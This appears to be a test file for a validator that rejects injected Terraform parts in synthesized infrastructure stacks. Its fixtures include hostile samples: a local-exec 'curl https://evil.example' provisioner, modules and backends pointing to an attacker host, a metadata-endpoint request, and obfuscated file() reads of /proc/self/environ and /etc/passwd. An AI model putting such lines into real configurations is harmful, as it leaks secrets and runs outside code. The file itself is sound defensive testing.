import fc from 'fast-check';
import { boundsOf, foreignParts, outOfBounds } from '../../../templates/framework/pipeline/configuration';
import type { Configuration } from '../../../templates/framework/pipeline/configuration';
import { configOf, generic, github, zoom, type ConfigOverrides } from '../infra/fixtures';
import { ALL_OPTIONS, STATE } from '../infra/pipelines';
import { synthesize } from '../infra/synthesize';

type Json = Record<string, any>;

const stack = (options: ConfigOverrides = {}, source = generic) => synthesize(configOf(source, { state: STATE, ...options })) as unknown as Json;
const GENUINE = stack();
/** A stack, with something changed in it. */
const changed = (change: (configuration: Json) => void): Configuration => {
  const configuration = structuredClone(GENUINE);
  change(configuration);
  return configuration;
};

test.each([generic, github, zoom])('the stacks of $id are taken, with every option', (source) => {
  for (const options of [{}, { stage: ALL_OPTIONS }]) {
    const configuration = stack(options, source);
    expect(foreignParts(configuration)).toEqual([]);
    expect(outOfBounds(configuration, boundsOf(configuration))).toEqual([]);
  }
});

describe('what runs programs, or reads files, is refused, and named', () => {
  const command = [{ 'local-exec': { command: 'curl https://evil.example' } }];
  test.each<[string, (configuration: Json) => void, string]>([
    ['a foreign provider\'s resource', ({ resource }) => { resource.null_resource = { x: {} }; }, 'null_resource.x: only the AWS provider\'s resources'],
    ['Terraform\'s own resource', ({ resource }) => { resource.terraform_data = { x: { provisioner: command } }; }, 'terraform_data.x'],
    ['a provisioner', ({ resource }) => { resource.aws_sqs_queue.events.provisioner = command; }, 'aws_sqs_queue.events: has a provisioner'],
    ['a connection', ({ resource }) => { resource.aws_sqs_queue.events.connection = { host: 'evil.example' }; }, 'aws_sqs_queue.events: has a connection'],
    ['a resource as a list', ({ resource }) => { resource.aws_sqs_queue.events = [{ provisioner: command }]; }, 'aws_sqs_queue.events: is not an object'],
    ['a type as a list', ({ resource }) => { resource.aws_sqs_queue = [{ events: { provisioner: command } }]; }, 'resource.aws_sqs_queue: is not an object'],
    ['the resources as a list', (configuration) => { configuration.resource = [{ null_resource: { x: {} } }]; }, 'resource: is not an object'],
    ['the data sources as a list', (configuration) => { configuration.data = [{ http: { x: { url: 'https://evil.example' } } }]; }, 'data: is not an object'],
    ['a module', (configuration) => { configuration.module = { x: { source: 'git::https://evil.example/x' } }; }, 'module: a stack has no such part'],
    ['what is removed, with a provisioner', (configuration) => { configuration.removed = [{ from: 'aws_x.y', provisioner: command }]; }, 'removed:'],
    ['an import', (configuration) => { configuration.import = [{ to: 'aws_sqs_queue.events', id: 'theirs' }]; }, 'import:'],
    ['a variable', (configuration) => { configuration.variable = { x: {} }; }, 'variable:'],
    ['a local value', (configuration) => { configuration.locals = { x: '1' }; }, 'locals:'],
    ['an ephemeral resource', (configuration) => { configuration.ephemeral = { aws_x: { y: {} } }; }, 'ephemeral:'],
    ['a check', (configuration) => { configuration.check = { x: { data: {} } }; }, 'check:'],
    ['a file of the machine', ({ output }) => { output.WebhookUrl.value = '${file("/proc/self/environ")}'; }, 'reads files'],
    ['a file, by a name that is known later', ({ resource }) => {
      resource.aws_lambda_function.ingest.environment.variables.X = '${ filebase64 /* */ ("/proc/${aws_sqs_queue.events.id}/environ") }';
    }, 'reads files'],
    ['a file, in a directive', ({ output }) => { output.WebhookUrl.value = '%{ if templatefile("/etc/passwd", {}) == "" }%{ endif }'; }, 'reads files'],
  ])('%s', (_, change, message) => {
    expect(foreignParts(changed(change)).join('\n')).toContain(message);
  });
});

describe('what is a person\'s to change is out of bounds', () => {
  const bounds = boundsOf(GENUINE);
  const policy = ({ resource }: Json) => resource.aws_iam_role_policy.ingest;
  test.each<[string, (configuration: Json) => void, string[]]>([
    ['another source of the provider', ({ terraform }) => { terraform.required_providers.aws.source = 'evil.example/x/aws'; }, ['terraform.required_providers']],
    ['another version of the provider', ({ terraform }) => { terraform.required_providers.aws.version = '1.0.0'; }, ['terraform.required_providers']],
    ['a second provider', ({ terraform }) => { terraform.required_providers.evil = { source: 'evil/evil' }; }, ['terraform.required_providers']],
    ['another place of the state', ({ terraform }) => { terraform.backend = { http: { address: 'https://evil.example' } }; }, ['terraform.backend']],
    ['a profile that runs a program', ({ terraform }) => { terraform.backend.s3.shared_config_files = ['x']; }, ['terraform.backend']],
    ['no place of the state', ({ terraform }) => { delete terraform.backend; }, ['terraform.backend']],
    ['no terraform block', (configuration) => { delete configuration.terraform; }, ['terraform.backend', 'terraform.required_providers', 'terraform.required_version']],
    ['credentials of the provider\'s from a program', ({ provider }) => { provider.aws[0].shared_config_files = ['assets/x']; }, ['provider.aws']],
    ['another provider\'s settings', ({ provider }) => { provider.external = [{}]; }, ['provider.external']],
    ['a role that may do more', (configuration) => { policy(configuration).policy = policy(configuration).policy.replace('sqs:SendMessage', '*'); }, ['aws_iam_role_policy.ingest']],
    ['a role of somebody else\'s', ({ resource }) => { resource.aws_iam_role.ingest.assume_role_policy = '{}'; }, ['aws_iam_role.ingest']],
    ['a policy of AWS\'s', ({ resource }) => { resource.aws_iam_role_policy_attachment = { x: {} }; }, ['aws_iam_role_policy_attachment.x']],
    ['a program', ({ data }) => { data.external = { x: { program: ['sh'] } }; }, ['data.external.x']],
    ['a request', ({ data }) => { data.http = { x: { url: 'https://evil.example' } }; }, ['data.http.x']],
    ['a request by the AWS provider', ({ data }) => { data.aws_ip_ranges = { x: { url: 'http://169.254.170.2/' } }; }, ['data.aws_ip_ranges.x']],
    ['a secret', ({ data }) => { data.aws_ssm_parameter = { x: { name: '/MozDef-EF/x' } }; }, ['data.aws_ssm_parameter.x']],
    ['another webhook', ({ output }) => { output.WebhookUrl.value = 'https://evil.execute-api.us-west-2.amazonaws.com/x'; }, ['output.WebhookUrl']],
    ['another queue', ({ output }) => { output.QueueUrl.value = 'https://evil.example/q'; }, ['output.QueueUrl']],
    ['a name of an object\'s prototype', ({ data }) => { data.constructor = { name: {} }; }, ['data.constructor.name']],
  ])('%s', (_, change, parts) => {
    expect(outOfBounds(changed(change), bounds)).toEqual(parts);
  });

  test('what is a release\'s to change is not: functions, alarms, queues, and roles that go', () => {
    expect(outOfBounds(changed(({ resource, output }) => {
      resource.aws_lambda_function.ingest.memory_size = 1024;
      resource.aws_sqs_queue.events.tags = { a: 'b' };
      resource.aws_cloudwatch_metric_alarm.another = {};
      output.Another = { value: 'x' };
      delete resource.aws_iam_role.reprocess;
      resource.aws_iam_role.ingest['//'] = { metadata: { path: 'moved' } };
    }), bounds)).toEqual([]);
  });

  test('the order of what is written makes no difference', () => {
    const { resource, ...rest } = GENUINE;
    const reversed = (value: Json): Json => Object.fromEntries(Object.entries(value).reverse());
    const roles = Object.fromEntries(Object.entries<Json>(resource.aws_iam_role).map(([name, role]) => [name, reversed(role)]));
    expect(boundsOf({ ...reversed(rest), resource: { ...resource, aws_iam_role: reversed(roles) } })).toEqual(bounds);
  });
});

describe('whatever a package writes', () => {
  const json = fc.jsonValue();
  const name = fc.oneof(fc.constantFrom('aws', 'events', 'ingest', '__proto__', 'constructor', 'provisioner', '//', ''), fc.string());

  test.each<[string, (configuration: Json, key: string, value: unknown) => void]>([
    ['beside the provider', ({ provider }, key, value) => { provider[key] = value; }],
    ['into Terraform\'s settings', ({ terraform }, key, value) => { terraform[key] = value; }],
    ['into the backend', ({ terraform }, key, value) => { terraform.backend[key] = value; }],
    ['for a data source', ({ data }, key, value) => { data.external = { [key]: value }; }],
    ['for a role', ({ resource }, key, value) => { resource.aws_iam_role[key] = value; }],
    ['into a policy', ({ resource }, key, value) => { resource.aws_iam_role_policy.ingest[key] = value; }],
    ['for a resource of another provider', ({ resource }, key, value) => { resource.local_file = { [key]: value }; }],
  ])('%s is refused, unless it is what was there', (_, put) => {
    const bounds = boundsOf(GENUINE);
    // What is only in cdktf's notes is none of Terraform's business.
    fc.assert(fc.property(name.filter((key) => key !== '//'), json, (key, value) => {
      const configuration = changed((each) => put(each as Json, key, value));
      fc.pre(JSON.stringify(boundsOf(configuration)) !== JSON.stringify(bounds) || JSON.stringify(configuration) !== JSON.stringify(GENUINE));
      expect([...foreignParts(configuration), ...outOfBounds(configuration, bounds)]).not.toEqual([]);
    }));
  });

  test('in place of anything is judged, and never fails the judge', () => {
    fc.assert(fc.property(fc.constantFrom('resource', 'data', 'provider', 'terraform', 'output', 'moved'), json, (part, value) => {
      const configuration = { ...GENUINE, [part]: JSON.parse(JSON.stringify(value)) as unknown };
      expect(() => [foreignParts(configuration), outOfBounds(configuration, boundsOf(GENUINE))]).not.toThrow();
    }));
  });
});
